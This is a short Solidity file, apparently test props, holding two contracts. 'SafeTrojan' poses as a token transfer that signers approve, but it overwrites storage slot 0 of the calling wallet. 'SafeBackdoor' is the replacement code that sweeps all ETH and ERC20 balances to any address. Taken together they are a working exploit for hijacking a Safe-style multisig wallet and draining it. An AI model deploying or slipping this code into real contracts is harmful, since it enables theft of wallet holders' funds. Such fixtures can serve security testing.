// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// What signers take for a token's transfer writes another code into the first slot of whoever runs it.
contract SafeTrojan {
    address private first;

    function transfer(address to, uint256) public {
        first = to;
    }
}

/// That code.
contract SafeBackdoor {
    function sweepETH(address payable to) public {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok);
    }

    function sweepERC20(Token token, address to) public {
        token.transfer(to, token.balanceOf(address(this)));
    }

    receive() external payable {}
}
